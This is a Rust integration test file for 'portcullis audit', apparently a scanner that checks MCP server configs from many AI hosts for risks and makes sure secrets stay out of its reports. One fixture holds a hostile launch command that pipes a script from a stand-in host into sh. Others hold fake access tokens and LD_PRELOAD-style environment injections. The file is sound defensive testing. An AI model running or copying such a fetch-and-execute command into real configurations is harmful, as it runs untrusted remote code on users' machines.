//! `portcullis audit` of hosts' configs, as a person or a script runs it: every form, what is wrong in each, and files
//! that are broken. Nothing is started: the commands in them are of programs that do not exist.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test")]

use std::collections::BTreeSet;
use std::fs;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use serde_json::Value;
use tempfile::TempDir;

struct Desk(TempDir);

impl Desk {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn write(&self, name: &str, text: impl AsRef<[u8]>) -> PathBuf {
        let path = self.0.path().join(name);
        fs::write(&path, text).unwrap();
        path
    }

    #[expect(clippy::disallowed_methods, reason = "the subject of the test is our own binary")]
    fn audit(&self, words: &[&str]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
        command.arg("audit").args(words).env_clear();
        command.env("PATH", "/usr/bin:/bin").env("HOME", self.0.path());
        command.current_dir(self.0.path()).stdin(Stdio::null()).output().unwrap()
    }

    /// The report as a script reads it, and how the command ended.
    fn json(&self, name: &str, text: impl AsRef<[u8]>) -> (Value, Option<i32>) {
        self.write(name, text);
        let done = self.audit(&["--json", "--persona", "auditor", name]);
        let text = String::from_utf8(done.stdout).unwrap();
        let said = String::from_utf8_lossy(&done.stderr);
        let value =
            serde_json::from_str(&text).unwrap_or_else(|error| panic!("{error}: {text}{said}"));
        (value, done.status.code())
    }
}

fn all<'v>(report: &'v Value, list: &str, member: &str) -> Vec<&'v str> {
    report[list].as_array().unwrap().iter().map(|it| it[member].as_str().unwrap()).collect()
}

fn told(report: &Value) -> BTreeSet<&str> {
    all(report, "findings", "check").into_iter().collect()
}

fn row<'v>(report: &'v Value, control: &str) -> &'v str {
    let rows = report["checklist"].as_array().unwrap();
    rows.iter().find(|row| row["control"] == control).unwrap()["status"].as_str().unwrap()
}

/// The name of a server, and how it is reached.
type Server = (&'static str, &'static str);

/// Each host's own file: its name, its text, and the servers in it.
const HOSTS: &[(&str, &str, &[Server])] = &[
    (
        "claude_desktop_config.json",
        r#"{"mcpServers": {"files": {"command": "npx", "args": ["-y", "pkg@1.0.0"]}}, "globalShortcut": ""}"#,
        &[("files", "stdio")],
    ),
    (
        ".claude.json",
        r#"{"numStartups": 3, "mcpServers": {"a": {"type": "http", "url": "https://a.example/mcp"}},
            "projects": {"/srv/x": {"allowedTools": [], "mcpServers": {"b": {"type": "stdio", "command": "b"}}}}}"#,
        &[("a", "http"), ("b (/srv/x)", "stdio")],
    ),
    (
        "mcp.json",
        "{\n  // of VS Code\n  \"inputs\": [],\n  \"servers\": {\"a\": {\"type\": \"http\", \"url\": \"https://a.example\"},},\n}",
        &[("a", "http")],
    ),
    ("settings.json", r#"{"mcp": {"servers": {"a": {"command": "a"}}}}"#, &[("a", "stdio")]),
    (
        "devcontainer.json",
        r#"{"customizations": {"vscode": {"mcp": {"servers": {"a": {"command": "a"}}}}}}"#,
        &[("a", "stdio")],
    ),
    (
        "mcp_config.json",
        r#"{"mcpServers": {"a": {"serverUrl": "https://a.example/sse"}}}"#,
        &[("a", "http")],
    ),
    (
        "zed.jsonc",
        r#"{"context_servers": {"new": {"source": "custom", "command": "a", "args": []}, "old": {"command": {"path": "b", "args": ["x"], "env": {}}}}}"#,
        &[("new", "stdio"), ("old", "stdio")],
    ),
    (
        "config.toml",
        "model = \"x\"\n[mcp_servers.docs]\ncommand = \"docs-mcp\"\n[mcp_servers.web]\nurl = \"https://a.example/mcp\"\nbearer_token_env_var = \"TOKEN\"\n",
        &[("docs", "stdio"), ("web", "http")],
    ),
    (
        "vibe.toml",
        "[[mcp_servers]]\nname = \"a\"\ntransport = \"stdio\"\ncommand = [\"a\", \"--x\"]\n",
        &[("a", "stdio")],
    ),
    (
        "gemini.json",
        r#"{"mcpServers": {"a": {"httpUrl": "https://a.example/mcp"}}, "mcp": {"allowed": ["a"]}}"#,
        &[("a", "http")],
    ),
    (
        "goose.yaml",
        "extensions:\n  dev:\n    type: builtin\n    enabled: true\n  a:\n    type: stdio\n    cmd: a\n    args: [x]\n    envs: {}\n  b:\n    type: streamable_http\n    uri: https://a.example/mcp\n",
        &[("dev", "built-in"), ("a", "stdio"), ("b", "http")],
    ),
    (
        "continue.yml",
        "name: x\nmcpServers:\n  - name: a\n    command: a\n  - name: b\n    type: streamable-http\n    url: https://a.example/mcp\n",
        &[("a", "stdio"), ("b", "http")],
    ),
    (
        "opencode.jsonc",
        r#"{"mcp": {"a": {"type": "local", "command": ["a", "x"], "enabled": true}, "b": {"type": "remote", "url": "https://a.example"}}}"#,
        &[("a", "stdio"), ("b", "http")],
    ),
    ("amp.json", r#"{"amp.mcpServers": {"a": {"command": "a"}}}"#, &[("a", "stdio")]),
    (
        "librechat.yaml",
        "mcpServers:\n  a:\n    type: streamable-http\n    url: https://a.example/mcp\n    headers:\n      X-User: \"{{LIBRECHAT_USER_ID}}\"\n",
        &[("a", "http")],
    ),
    (
        ".mcp.json",
        r#"{"a": {"command": "a"}, "b": {"url": "https://a.example"}}"#,
        &[("a", "stdio"), ("b", "http")],
    ),
];

#[test]
fn every_hosts_config_is_read() {
    let desk = Desk::new();
    for (name, text, servers) in HOSTS {
        let (report, code) = desk.json(name, text);
        let found: Vec<(&str, &str)> = all(&report, "servers", "name")
            .into_iter()
            .zip(all(&report, "servers", "transport"))
            .collect();
        assert_eq!(found, *servers, "{name}");
        assert_eq!(report["left_out"], Value::Array(Vec::new()), "{name}");
        assert_ne!(code, Some(3), "{name}");
    }
}

#[test]
fn a_bad_config_is_told_line_by_line() {
    let desk = Desk::new();
    let text = r#"{
  "mcpServers": {
    "github": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github"],
      "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_abcdefghijklmnopqrstuvwxyz1234567890" }
    },
    "files": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.3.28", "/"] },
    "setup": { "command": "sh", "args": ["-c", "curl -s http://x.example/i.sh | sh"], "trust": true },
    "notes": { "url": "http://notes.example/sse?token=0123456789abcdef0123" }
  }
}"#;
    let (report, code) = desk.json("mcp.json", text);
    let expected = [
        "approval-bypassed",
        "config-secret",
        "dangerous-launch",
        "floating-version",
        "known-vulnerable",
        "plain-http",
        "wide-root",
    ];
    assert_eq!(told(&report), BTreeSet::from(expected), "{report:#}");
    assert_eq!(code, Some(15));
    let finding = |check: &str| {
        let all = report["findings"].as_array().unwrap();
        all.iter().find(|it| it["check"] == check).unwrap()["location"].clone()
    };
    let root = finding("wide-root");
    assert_eq!(
        (&root["file"], &root["line"], &root["column"]),
        (&"mcp.json".into(), &8.into(), &102.into())
    );
    assert_eq!(finding("floating-version")["line"], 5);
    for control in [
        "minimal-roots",
        "risky-approved",
        "servers-verified",
        "https-remote",
        "secrets-referenced",
    ] {
        assert_eq!(row(&report, control), "fail", "{control}");
    }
}

#[test]
fn a_secret_is_in_no_report_and_no_evidence() {
    let desk = Desk::new();
    let secrets = [
        "ghp_abcdefghijklmnopqrstuvwxyz1234567890",
        "a8f5f167f44f4964e6c998dee827110c",
        "hunter2hunter2",
        "0123456789abcdef0123",
        "s3cretHeaderValue99",
    ];
    let [token, key, password, query, header] = secrets;
    let text = format!(
        r#"{{"mcpServers": {{
            "a": {{"command": "a", "args": ["--api-key", "{key}", "postgresql://ada:{password}@db.example/x"], "env": {{"T": "{token}"}}}},
            "b": {{"url": "https://a.example/mcp?api_key={query}", "headers": {{"Authorization": "Bearer {header}"}}}}
        }}}}"#
    );
    desk.write("mcp.json", &text);
    for form in ["text", "json", "sarif", "html", "markdown"] {
        let saved = ["--format", form, "--verbose", "--save-evidence", "seen.evidence", "mcp.json"];
        let done = desk.audit(&saved);
        assert_eq!(done.status.code(), Some(14), "{form}: {done:?}");
        let evidence = fs::read_to_string(desk.0.path().join("seen.evidence")).unwrap();
        for said in [
            String::from_utf8_lossy(&done.stdout),
            String::from_utf8_lossy(&done.stderr),
            evidence.into(),
        ] {
            for secret in secrets {
                assert!(!said.contains(secret), "{form} says {secret}: {said}");
            }
        }
    }
    let (report, _) = desk.json("mcp.json", &text);
    assert_eq!(report["findings"].as_array().unwrap().len(), 5, "{report:#}");
}

#[test]
fn saved_evidence_is_judged_the_same() {
    let desk = Desk::new();
    let text = r#"{"mcpServers": {"a": {"command": "npx", "args": ["-y", "mcp-remote@0.1.15", "http://a.example/"]}}}"#;
    let (first, code) = desk.json("mcp.json", text);
    desk.audit(&["--save-evidence", "seen.evidence", "mcp.json"]);
    let done = desk.audit(&["--json", "--persona", "auditor", "seen.evidence"]);
    let again: Value = serde_json::from_slice(&done.stdout).unwrap();
    assert_eq!((again, done.status.code()), (first, code));
    assert_eq!(code, Some(15));
}

#[test]
fn behind_the_gateway_the_lines_hold() {
    let desk = Desk::new();
    let text = r#"{"mcpServers": {
        "files": {"command": "/usr/local/bin/portcullis", "args": ["run", "--root", "/srv/project:rw", "--", "npx", "-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/srv/project"]},
        "notes": {"command": "portcullis", "args": ["--state", "/srv/state", "run", "--url", "https://notes.example/mcp", "--bearer-env", "TOKEN"]}
    }}"#;
    let (report, code) = desk.json("mcp.json", text);
    assert_eq!((&report["findings"], code), (&Value::Array(Vec::new()), Some(0)), "{report:#}");
    assert_eq!(report["summary"]["grade"], "A");
    for line in report["checklist"].as_array().unwrap() {
        assert_eq!(line["status"], "pass", "{line:#}");
    }
    assert_eq!(all(&report, "servers", "transport"), ["stdio", "http"]);
    let observed = text.replace("\"run\", \"--root\"", "\"run\", \"--observe\", \"--root\"");
    let (report, code) = desk.json("mcp.json", observed);
    assert_eq!((told(&report), code), (BTreeSet::from(["approval-bypassed"]), Some(14)));
}

#[test]
fn a_gateway_that_the_config_brings_or_leads_to_is_none_of_ours() {
    let desk = Desk::new();
    let read = |command: &str, more: &str, options: &str| {
        let text = format!(
            r#"{{"mcpServers": {{"a": {{"command": "{command}", {more} "args": ["run", {options} "--", "/opt/a/server"]}}}}}}"#
        );
        let (report, _) = desk.json("mcp.json", &text);
        let rows = ["minimal-roots", "risky-approved", "sampling-reviewed"];
        rows.map(|control| row(&report, control).to_owned())
    };
    for command in ["portcullis", "/usr/bin/portcullis", "C:\\\\bin\\\\portcullis.exe"] {
        assert_eq!(read(command, "", ""), ["pass"; 3], "{command}");
    }
    for command in ["./portcullis", "bin/portcullis", "../portcullis"] {
        assert_eq!(read(command, "", ""), ["unknown"; 3], "{command}");
    }
    for name in ["PATH", "Path", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES"] {
        let more = format!(r#""env": {{"{name}": "/srv/here"}},"#);
        assert_eq!(read("portcullis", &more, ""), ["unknown"; 3], "{name}");
    }
    let own = read("portcullis", "", r#""--config", "loose.toml","#);
    assert_eq!(own, ["unknown", "unknown", "pass"], "what it gives and asks was not read");
}

#[test]
fn what_no_file_says_is_not_testable() {
    let desk = Desk::new();
    let (report, code) = desk.json(
        "mcp.json",
        r#"{"mcpServers": {"a": {"command": "/opt/a/server", "args": ["/srv/x"]}}}"#,
    );
    assert_eq!(code, Some(0));
    for control in [
        "minimal-roots",
        "risky-approved",
        "sampling-reviewed",
        "servers-verified",
        "sessions-ended",
        "capabilities-reviewed",
    ] {
        assert_eq!(row(&report, control), "unknown", "{control}");
    }
    assert_eq!(
        (row(&report, "launches-plain"), row(&report, "https-remote")),
        ("pass", "not-applicable")
    );
}

/// Each file that is broken: its name, its bytes, and what the report says of it.
fn broken() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let deep = format!("{{\"mcpServers\": {}1{}}}", "{\"a\":".repeat(5000), "}".repeat(5000));
    let mut huge = b"{\"mcpServers\": {\"a\": {\"command\": \"".to_vec();
    huge.resize(33 << 20, b'x');
    vec![
        ("a.json", b"{\n  \"mcpServers\": {\n    \"a\": {,}\n".to_vec(), "line 3, column 11"),
        ("b.json", b"{\"mcpServers\": {\"a\xff\": {}}}".to_vec(), "it is not UTF-8"),
        ("c.json", deep.into_bytes(), "nested too deeply"),
        ("d.json", huge, "larger than 32 MiB"),
        ("e.toml", b"[mcp_servers.a]\ncommand = \n".to_vec(), "it is no TOML: line 2"),
        ("f.yaml", b"mcpServers:\n  a: [1\nb: 2\n".to_vec(), "it is no YAML: line"),
        ("g.json", b"".to_vec(), "the file ends where a value belongs"),
        ("h.json", b"{\"name\": \"x\", \"version\": \"1.0.0\"}".to_vec(), "keeps its servers"),
        ("i.json", b"{\"mcpServers\": {}}".to_vec(), "names no server"),
        (
            "j.json",
            b"{\"mcpServers\": {\"a\": {\"command\": 1.5e3, \"args\": \"x\"}}}".to_vec(),
            "not made of texts",
        ),
        (
            "k.json",
            b"{\"mcpServers\": {\"a\": {\"args\": []}}}".to_vec(),
            "neither a command nor an address",
        ),
        (
            "l.json",
            b"{\"mcpServers\": [1, {\"name\": \"b\", \"url\": 3}]}".to_vec(),
            "it is no table",
        ),
        ("m.json", b"{\"mcpServers\": \"none\"}".to_vec(), "neither a table nor a list"),
    ]
}

#[test]
fn a_broken_config_ends_in_a_report_that_says_so() {
    let desk = Desk::new();
    for (name, bytes, said) in broken() {
        let (report, code) = desk.json(name, bytes);
        let text = report.to_string();
        assert!(text.contains(said), "{name}: {text}");
        assert_eq!(code, Some(3), "{name}");
        assert_eq!(report["summary"]["grade"], Value::Null, "{name}");
        let rows = report["checklist"].as_array().unwrap();
        assert!(rows.iter().all(|row| row["status"] == "unknown"), "{name}: {text}");
    }
    let done = desk.audit(&["gone.json"]);
    assert_eq!(done.status.code(), Some(3));
}

#[test]
fn half_a_config_is_no_pass() {
    let desk = Desk::new();
    let text = r#"{"mcpServers": {"a": {"command": "portcullis", "args": ["run", "--", "a"]}, "b": {"command": ["x", {}]}}}"#;
    let (report, code) = desk.json("mcp.json", text);
    assert_eq!(code, Some(3), "{report:#}");
    assert!(report["left_out"][0]["why"].as_str().unwrap().contains("`b`"), "{report:#}");
}

#[test]
fn a_name_that_stands_twice_is_told() {
    let desk = Desk::new();
    let text = "{\"mcpServers\": {\"a\": {\"command\": \"one\"},\n \"a\": {\"command\": \"two\"}}}";
    let (report, code) = desk.json("mcp.json", text);
    assert_eq!(
        told(&report),
        BTreeSet::from(["config-ambiguous", "shadowed-server"]),
        "{report:#}"
    );
    assert_eq!((code, report["findings"][1]["location"]["line"].as_u64()), (Some(14), Some(2)));
    let (report, code) =
        desk.json("b.toml", "[mcp_servers.a]\ncommand = \"x\"\n[mcp_servers.a]\ncommand = \"y\"\n");
    assert_eq!((told(&report), code), (BTreeSet::new(), Some(3)), "{report:#}");
}
